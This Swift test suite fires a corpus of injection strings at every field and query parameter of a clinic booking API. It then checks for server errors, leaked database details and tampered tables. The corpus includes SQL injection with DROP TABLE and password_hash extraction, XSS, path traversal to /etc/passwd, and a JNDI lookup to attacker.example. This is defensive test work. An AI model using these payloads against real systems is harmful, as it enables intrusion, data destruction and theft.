import BookingServer
import Foundation
import IllajwalaTesting
import Testing

/// Classic hostile strings: SQL injection (generic, PostgreSQL, SQLite), NoSQL operators as text, template and
/// log4j-style expressions, markup, path traversal, Unicode tricks and numbers-as-text.
enum HostileStrings {
    static let corpus: [String] = [
        "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "admin'--", "'; DROP TABLE users; --", "1; DROP TABLE appointments",
        "') UNION SELECT password_hash, email FROM users --", "' UNION SELECT NULL, sqlite_version() --",
        "1' AND pg_sleep(5) IS NULL --", "'; SELECT pg_sleep(5); --", "' AND 1=CAST((SELECT version()) AS int) --",
        "\\'; DELETE FROM refresh_tokens; --", "%27%20OR%201%3D1", "' OR ''='", "ʼ OR 1=1 --", "';\nDROP TABLE tenants;--",
        "{\"$gt\": \"\"}", "$where: 1 == 1", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "<%= 7*7 %>",
        "<script>alert(document.cookie)</script>", "\"><img src=x onerror=alert(1)>", "../../../../etc/passwd",
        "\u{202E}gnp.exe", "😀🏥", "nul\u{0}byte", "-1", "1e308", "null", "true", "[]",
    ]
}

@Suite("Injection corpus: hostile strings in every string field and query parameter change nothing and never 500")
struct InjectionCorpusTests {
    struct Ids: Decodable { var id: UUID }
    struct Stored: Decodable {
        var id: UUID
        var reasonForVisit: String?
    }

    @Test("bodies and queries of every kind of operation", arguments: DatabaseKind.available)
    func corpus(_ database: DatabaseKind) async throws {
        try await withSeededServer(database, environment: bulkRateLimits) { server, client in
            let admin = try await client.authenticated(email: FixtureCredentials.adminEmail, password: FixtureCredentials.adminPassword, role: "admin")
            let doctorSession = try await client.authenticated(
                email: FixtureCredentials.freeDoctorEmail, password: FixtureCredentials.doctorPassword, role: "doctor")
            let patient = try await client.newPatient()
            let doctor = try await patient.doctor(email: FixtureCredentials.freeDoctorEmail)
            let clinicID = try #require(doctor.clinicIds.first)
            let doctorsBefore = try await admin.send("GET", "/api/admin/doctors?pageSize=100").data(as: [AdminDoctor].self).count
            let clinicsBefore = try await admin.send("GET", "/api/clinics?pageSize=100").data(as: [Ids].self).count
            // Two free slots at different times.
            let free = try await patient.freeSlots(doctor.id)
            let first = try #require(free.first)
            let second = try #require(free.first { $0.start != first.start })
            let booked = try await patient.send(
                "POST", "/api/appointments",
                json: Body([
                    "doctorId": .string(doctor.id.uuidString), "clinicId": .string(first.clinicId.uuidString),
                    "scheduledAt": .string(first.start), "mode": .string("phone"),
                ])
            ).data(as: Ids.self, expecting: 201)

            var statuses: [Int: Int] = [:]
            var failures: [String] = []
            func send(_ who: APIClient, _ method: String, _ path: String, _ body: [String: Any]?) async throws {
                let data = try body.map { try JSONSerialization.data(withJSONObject: $0) }
                let response = try await who.send(method, path, rawBody: data, contentType: data == nil ? nil : "application/json")
                statuses[response.status, default: 0] += 1
                if response.status >= 500 {
                    failures.append("\(method) \(path) \(body.map { "\($0)" } ?? ""): \(response.status) \(response.text.prefix(200))")
                }
                for secret in ["SELECT", "sqlite", "postgres", "PSQLError", "password_hash", "/work/", ".swift"] where response.status >= 400 {
                    if response.text.contains(secret), !(body.map { "\($0)" } ?? path).contains(secret) {
                        failures.append("\(method) \(path): error body leaks '\(secret)': \(response.text.prefix(200))")
                    }
                }
            }
            // Each operation: who sends it, and a valid body whose string fields are replaced one at a time.
            let operations: [(APIClient, String, String, [String: Any])] = [
                (
                    client, "POST", "/api/auth/register",
                    ["name": "Asha", "email": "x@example.test", "phone": "+919800000001", "password": "Str0ng-pass-phrase"]
                ),
                (client, "POST", "/api/auth/login", ["email": FixtureCredentials.patientEmail, "password": "Wrong-pass-phrase", "role": "patient"]),
                (client, "POST", "/api/auth/refresh", ["refreshToken": "x"]),
                (patient, "PUT", "/api/patients/me", ["name": "Asha", "phone": "+919800000002"]),
                (admin, "POST", "/api/clinics", ["name": "Clinic", "slug": "clinic-x", "timezone": "Asia/Kolkata", "address": "1 Road", "city": "Pune"]),
                (admin, "PATCH", "/api/clinics/\(clinicID)", ["name": "Renamed", "address": "2 Road", "city": "Pune"]),
                (
                    admin, "POST", "/api/admin/doctors",
                    [
                        "name": "Dr. X", "email": "drx@example.test", "phone": "+919800000003", "password": "Str0ng-doctor-pass",
                        "specialization": "Dermatology", "fee": 0, "consultationModes": ["video"], "clinicIds": [clinicID.uuidString], "city": "Pune",
                    ]
                ),
                (
                    patient, "POST", "/api/appointments",
                    [
                        "doctorId": doctor.id.uuidString, "clinicId": clinicID.uuidString, "scheduledAt": "2030-01-01T09:00:00Z",
                        "mode": "phone", "reasonForVisit": "fever",
                    ]
                ),
                (doctorSession, "PATCH", "/api/appointments/\(booked.id)/status", ["status": "cancelled", "notes": "n"]),
                (patient, "POST", "/api/waitlists", ["doctorId": doctor.id.uuidString, "clinicId": clinicID.uuidString, "reason": "r"]),
                (patient, "POST", "/api/payments/verify", ["orderId": "order_1", "paymentId": "pay_1", "signature": "00"]),
                (patient, "POST", "/api/payments/sandbox/checkout", ["orderId": "order_1", "outcome": "success"]),
            ]
            for (who, method, path, valid) in operations {
                for field in valid.keys.sorted() where valid[field] is String {
                    for payload in HostileStrings.corpus {
                        var body = valid
                        body[field] = payload
                        try await send(who, method, path, body)
                    }
                }
            }
            // Query parameters and path ids of the read operations.
            let queries: [(APIClient, String, [String])] = [
                (patient, "/api/doctors", ["specialization", "city", "mode", "search", "page", "pageSize"]),
                (patient, "/api/clinics", ["status", "city", "page"]),
                (patient, "/api/doctors/\(doctor.id)/availability", ["from", "to", "clinicId"]),
                (admin, "/api/admin/doctors", ["reviewStatus", "page"]),
                (admin, "/api/appointments", ["status", "doctorId", "patientId", "clinicId", "from", "to", "sort"]),
                (admin, "/api/waitlists", ["status", "doctorId", "clinicId"]),
                (admin, "/api/waitlists/analytics", ["from", "to", "clinicId", "doctorId"]),
                (admin, "/api/analytics/clinics/metrics", ["clinicId"]),
            ]
            for (who, path, parameters) in queries {
                for parameter in parameters {
                    for payload in HostileStrings.corpus {
                        let encoded = payload.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
                        try await send(who, "GET", "\(path)?\(parameter)=\(encoded)", nil)
                    }
                }
            }
            for payload in HostileStrings.corpus {
                let encoded = payload.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
                for path in ["/api/doctors/", "/api/clinics/", "/api/appointments/", "/api/waitlists/"] {
                    try await send(patient, "GET", path + encoded, nil)
                }
            }
            #expect(failures.isEmpty, "\(failures.count) failures:\n\(failures.prefix(20).joined(separator: "\n"))")
            #expect(statuses.keys.allSatisfy { $0 < 500 }, "\(statuses)")

            // Nothing was changed behind the API's back: the tables are intact, search is literal.
            let search = "' OR '1'='1".addingPercentEncoding(withAllowedCharacters: .alphanumerics)!
            #expect(try await patient.send("GET", "/api/doctors?search=\(search)").data(as: [Ids].self).isEmpty)
            #expect(try await patient.send("GET", "/api/doctors").data(as: [Ids].self).count >= 1)
            #expect(try await admin.send("GET", "/api/clinics?pageSize=100").data(as: [Ids].self).count >= clinicsBefore)
            #expect(try await admin.send("GET", "/api/admin/doctors?pageSize=100").data(as: [AdminDoctor].self).count >= doctorsBefore)
            _ = try await client.authenticated(email: FixtureCredentials.patientEmail, password: FixtureCredentials.patientPassword, role: "patient")
            #expect(
                try await server.services.database.withConnection { sql in
                    try await sql.raw("SELECT COUNT(*) AS n FROM users").first()?.decode(column: "n", as: Int.self)
                } ?? 0 > 0)

            // Free text is stored exactly as given (escaping is the renderer's job: the API returns JSON only).
            let hostile = "Robert'); DROP TABLE users; -- <script>alert(1)</script>"
            let stored = try await patient.send(
                "POST", "/api/appointments",
                json: Body([
                    "doctorId": .string(doctor.id.uuidString), "clinicId": .string(second.clinicId.uuidString),
                    "scheduledAt": .string(second.start), "mode": .string("phone"), "reasonForVisit": .string(hostile),
                ])
            ).data(as: Stored.self, expecting: 201)
            let readBack = try await patient.send("GET", "/api/appointments/\(stored.id)")
            #expect(try readBack.data(as: Stored.self).reasonForVisit == hostile)
            #expect(readBack.header("content-type")?.hasPrefix("application/json") == true)
        }
    }
}
